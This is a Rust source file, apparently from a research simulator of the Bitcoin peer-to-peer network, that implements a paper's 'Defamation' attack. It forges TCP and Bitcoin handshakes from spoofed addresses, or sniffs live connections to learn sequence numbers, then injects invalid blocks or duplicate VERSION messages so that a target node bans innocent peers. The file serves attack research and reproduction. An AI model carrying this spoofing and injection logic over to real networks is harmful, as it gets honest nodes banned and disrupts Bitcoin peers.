//! The Defamation attack (§IV): exploiting the ban score to get *innocent*
//! peers banned by the target node.
//!
//! * [`PreConnDefamer`] — the innocent identifier `j` is not yet connected
//!   to target `i`. The attacker needs only IP **spoofing**: it forges a
//!   complete TCP + Bitcoin handshake as `j` (it knows its own forged ISN,
//!   so no eavesdropping is required) and delivers one 100-point
//!   misbehaving message. `j` is banned for 24 h before it ever talks.
//! * [`PostConnDefamer`] — `j` and `i` already have a live connection. Per
//!   Algorithm 1, the attacker **sniffs** the connection through a tap,
//!   learns the 4-tuple and the live sequence number, **injects** a forged
//!   misbehaving message, and `i` bans `j`.

use btc_netsim::packet::{make_segment, PacketBody, SockAddr, TcpFlags};
use btc_netsim::sim::{App, Ctx, TapHandle};
use btc_netsim::time::{Nanos, MILLIS};
use btc_wire::message::{Message, VersionMessage};
use btc_wire::types::{NetAddr, Network};
use btc_wire::bytes::Bytes;
use std::any::Any;
use std::collections::BTreeMap;

/// The misbehaving frame a defamer delivers once it can speak as the
/// innocent peer. A mutated `BLOCK` is the paper's instant-ban choice
/// (+100); duplicate `VERSION`s (+1 each) model the slow Figure-8 variant.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub enum DefamationPayload {
    /// One structurally invalid block: +100, instant ban.
    #[default]
    InvalidBlock,
    /// A burst of `n` duplicate `VERSION` messages (+1 each).
    DuplicateVersions(u32),
}

fn misbehaving_frames(
    payload: DefamationPayload,
    network: Network,
    spoofed: SockAddr,
    target: SockAddr,
    nonce: u64,
) -> Vec<Bytes> {
    match payload {
        DefamationPayload::InvalidBlock => {
            // A *fresh* invalid block each strike: re-sending a block the
            // target has already cached as invalid only matches the
            // outbound-peer-only "cached as invalid" rule of Table I and
            // would not ban an inbound identifier.
            vec![crate::payload::FloodPayload::InvalidPowBlock.build(network, spoofed, target, nonce)]
        }
        DefamationPayload::DuplicateVersions(n) => (0..n)
            .map(|i| {
                crate::payload::FloodPayload::DuplicateVersion.build(
                    network,
                    spoofed,
                    target,
                    i as u64 + 2,
                )
            })
            .collect(),
    }
}

/// Record of one defamation strike.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct DefamationRecord {
    /// When the forged frames were injected.
    pub time: Nanos,
    /// The identifier that was framed.
    pub spoofed: SockAddr,
}

/// Pace between the pre-connection defamer's ports (models the attacker's
/// per-connection setup latency; the paper measures ≈0.1 s + 0.2 s per
/// identifier).
const PACE: Nanos = 300 * MILLIS;

/// Minimum bytes the post-connection defamer sniffs from a connection
/// before striking (lets the Bitcoin handshake finish so the forged frame
/// is processed post-handshake).
const MIN_BYTES_BEFORE_STRIKE: u64 = 100;

/// Pre-connection Defamation: preemptively ban identifiers of `victim_ip`
/// at the target, one port per tick.
pub struct PreConnDefamer {
    /// Target node (`i`).
    pub target: SockAddr,
    /// The innocent host whose identifiers get framed (`j`'s IP).
    pub victim_ip: [u8; 4],
    /// Ports to defame, in order.
    pub ports: Vec<u16>,
    /// Network magic.
    pub network: Network,
    /// What to deliver.
    pub payload: DefamationPayload,
    /// Strikes performed.
    pub records: Vec<DefamationRecord>,
    next: usize,
    isn: u32,
}

impl PreConnDefamer {
    /// Creates a defamer for the given port list.
    pub fn new(target: SockAddr, victim_ip: [u8; 4], ports: Vec<u16>) -> Self {
        PreConnDefamer {
            target,
            victim_ip,
            ports,
            network: Network::Regtest,
            payload: DefamationPayload::InvalidBlock,
            records: Vec::new(),
            next: 0,
            isn: 0x4444_0000,
        }
    }

    /// Whether every port has been defamed.
    pub fn done(&self) -> bool {
        self.next >= self.ports.len()
    }

    /// Forges the full connection + handshake + misbehavior burst for one
    /// spoofed identifier. Everything is injected back-to-back: FIFO
    /// delivery guarantees the target processes SYN, ACK, VERSION, VERACK,
    /// then the misbehaving payload, in order.
    fn strike(&mut self, ctx: &mut Ctx<'_>, port: u16) {
        let spoofed = SockAddr::new(self.victim_ip, port);
        let target = self.target;
        self.isn = self.isn.wrapping_add(0x10001);
        let isn = self.isn;
        // 1. Spoofed SYN.
        ctx.inject(make_segment(spoofed, target, isn, 0, TcpFlags::SYN, Bytes::new()));
        // 2. Spoofed ACK completing the handshake. We never see the
        //    SYN|ACK (it goes to the real victim, who silently ignores
        //    it), but we don't need it: only our own ISN matters for the
        //    sequence numbers the target will verify.
        let mut seq = isn.wrapping_add(1);
        ctx.inject(make_segment(
            spoofed,
            target,
            seq,
            0,
            TcpFlags::ACK,
            Bytes::new(),
        ));
        // 3. Spoofed Bitcoin session: VERSION + VERACK.
        let v = VersionMessage::new(
            NetAddr::new(spoofed.ip, spoofed.port),
            NetAddr::new(target.ip, target.port),
            u64::from(isn),
        );
        for frame in [
            Message::Version(v).to_frame(self.network),
            Message::Verack.to_frame(self.network),
        ] {
            let len = frame.len() as u32;
            ctx.inject(make_segment(spoofed, target, seq, 0, TcpFlags::ACK, frame));
            seq = seq.wrapping_add(len);
        }
        // 4. The misbehaving payload.
        for frame in misbehaving_frames(self.payload, self.network, spoofed, target, u64::from(isn)) {
            let len = frame.len() as u32;
            ctx.inject(make_segment(spoofed, target, seq, 0, TcpFlags::ACK, frame));
            seq = seq.wrapping_add(len);
        }
        self.records.push(DefamationRecord {
            time: ctx.now(),
            spoofed,
        });
    }
}

impl App for PreConnDefamer {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.set_timer(PACE, 1);
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _token: u64) {
        if self.done() {
            return;
        }
        let port = self.ports[self.next];
        self.next += 1;
        self.strike(ctx, port);
        if !self.done() {
            ctx.set_timer(PACE, 1);
        }
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

/// Live sniffed state of one victim connection.
#[derive(Clone, Copy, Debug)]
struct SniffedConn {
    /// Next sequence number the target expects from the victim.
    next_seq: u32,
    /// The target-side endpoint of the connection (the target dials
    /// outbound peers from ephemeral ports, so this is not always :8333).
    target_endpoint: SockAddr,
    /// Whether the Bitcoin handshake looked complete (enough traffic seen).
    bytes_seen: u64,
    struck: bool,
}

/// Post-connection Defamation (Algorithm 1): sniff live connections from a
/// tap, learn `seq`, inject forged misbehavior.
pub struct PostConnDefamer {
    /// Target node (`i`).
    pub target: SockAddr,
    /// IPs whose connections to the target we defame (`j` candidates).
    pub victim_ips: Vec<[u8; 4]>,
    /// The promiscuous tap (install with
    /// `sim.add_tap(TapFilter::Host(target_ip))` before adding this app).
    pub tap: TapHandle,
    /// Network magic.
    pub network: Network,
    /// Sniffer poll interval.
    pub poll: Nanos,
    /// Don't strike before this virtual time (lets honest history, e.g.
    /// good-score credit, accumulate first in experiments).
    pub start_after: Nanos,
    /// What to deliver.
    pub payload: DefamationPayload,
    /// Strikes performed.
    pub records: Vec<DefamationRecord>,
    conns: BTreeMap<SockAddr, SniffedConn>,
    strike_nonce: u64,
}

impl PostConnDefamer {
    /// Creates a post-connection defamer.
    pub fn new(target: SockAddr, victim_ips: Vec<[u8; 4]>, tap: TapHandle) -> Self {
        PostConnDefamer {
            target,
            victim_ips,
            tap,
            network: Network::Regtest,
            poll: 10 * MILLIS,
            start_after: 0,
            payload: DefamationPayload::InvalidBlock,
            records: Vec::new(),
            conns: BTreeMap::new(),
            strike_nonce: 0x5000,
        }
    }

    /// Step 2–3 of Algorithm 1: real-time eavesdropping to learn the
    /// current sequence state of every victim connection.
    fn ingest_sniffed(&mut self) {
        for cap in self.tap.drain() {
            let p = &cap.packet;
            let PacketBody::Tcp(seg) = &p.body else {
                continue;
            };
            // Only victim → target segments carry the seq we must forge.
            if p.dst.ip != self.target.ip || !self.victim_ips.contains(&p.src.ip) {
                continue;
            }
            let entry = self.conns.entry(p.src).or_insert(SniffedConn {
                next_seq: 0,
                target_endpoint: p.dst,
                bytes_seen: 0,
                struck: false,
            });
            entry.target_endpoint = p.dst;
            if seg.flags.has(TcpFlags::SYN) {
                *entry = SniffedConn {
                    next_seq: seg.seq.wrapping_add(1),
                    target_endpoint: p.dst,
                    bytes_seen: 0,
                    struck: false,
                };
            } else if !seg.payload.is_empty() {
                entry.next_seq = seg.seq.wrapping_add(seg.payload.len() as u32);
                entry.bytes_seen += seg.payload.len() as u64;
            }
        }
    }

    /// Steps 4–5: craft and inject the forged misbehaving message.
    fn strike_ready(&mut self, ctx: &mut Ctx<'_>) {
        let ready: Vec<SockAddr> = self
            .conns
            .iter()
            .filter(|(_, c)| !c.struck && c.bytes_seen >= MIN_BYTES_BEFORE_STRIKE)
            .map(|(a, _)| *a)
            .collect();
        for spoofed in ready {
            let conn = self.conns.get_mut(&spoofed).expect("present");
            let mut seq = conn.next_seq;
            let endpoint = conn.target_endpoint;
            conn.struck = true;
            self.strike_nonce = self.strike_nonce.wrapping_add(1);
            for frame in
                misbehaving_frames(self.payload, self.network, spoofed, endpoint, self.strike_nonce)
            {
                let len = frame.len() as u32;
                ctx.inject(make_segment(
                    spoofed,
                    endpoint,
                    seq,
                    0,
                    TcpFlags::ACK,
                    frame,
                ));
                seq = seq.wrapping_add(len);
            }
            self.records.push(DefamationRecord {
                time: ctx.now(),
                spoofed,
            });
        }
    }
}

impl App for PostConnDefamer {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.set_timer(self.poll, 1);
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _token: u64) {
        self.ingest_sniffed();
        if ctx.now() >= self.start_after {
            self.strike_ready(ctx);
        }
        ctx.set_timer(self.poll, 1);
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn misbehaving_frames_shapes() {
        let spoofed = SockAddr::new([10, 0, 0, 5], 50_000);
        let target = SockAddr::new([10, 0, 0, 1], 8333);
        let frames = misbehaving_frames(
            DefamationPayload::InvalidBlock,
            Network::Regtest,
            spoofed,
            target,
            1,
        );
        assert_eq!(frames.len(), 1);
        let frames = misbehaving_frames(
            DefamationPayload::DuplicateVersions(100),
            Network::Regtest,
            spoofed,
            target,
            2,
        );
        assert_eq!(frames.len(), 100);
    }

    #[test]
    fn preconn_walks_its_port_list() {
        let d = PreConnDefamer::new(
            SockAddr::new([10, 0, 0, 1], 8333),
            [10, 0, 0, 9],
            vec![50_000, 50_001],
        );
        assert!(!d.done());
        assert_eq!(d.ports.len(), 2);
    }
}
